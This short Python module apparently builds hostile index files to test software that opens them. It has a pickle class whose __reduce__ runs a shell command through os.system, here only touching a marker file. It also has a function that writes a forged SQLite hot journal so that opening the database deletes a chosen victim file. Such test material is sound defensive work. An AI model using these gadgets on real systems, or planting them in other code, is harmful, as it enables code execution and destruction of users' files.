"""Do to an index what somebody would do who means harm to whoever opens it."""

from __future__ import annotations

import os
import struct
from pathlib import Path

_PAGE_BYTES = 4096
_LOCK_BYTE = 1 << 30
_MAGIC = bytes.fromhex("d9d505f920a163d7")


class Command:
    """Becomes a command that is run, when it is read from a pickle.

    Args:
        place: The file that the command makes.
    """

    def __init__(self, place: Path) -> None:
        self.place = place

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch '{self.place}'",)


def hot_journal(database: Path, victim: Path) -> None:
    """Put a journal beside a database that names a file as its super-journal.

    SQLite removes the named file as soon as the database is opened.
    """
    pages = database.stat().st_size // _PAGE_BYTES
    head = _MAGIC + struct.pack(">IIIII", 0, 12345, pages, 512, _PAGE_BYTES)
    name = os.fsencode(victim)
    tail = struct.pack(">I", _LOCK_BYTE // _PAGE_BYTES + 1) + name
    tail += struct.pack(">II", len(name), sum(name) & 0xFFFFFFFF) + _MAGIC
    Path(f"{database}-journal").write_bytes(head.ljust(512, b"\0") + tail)
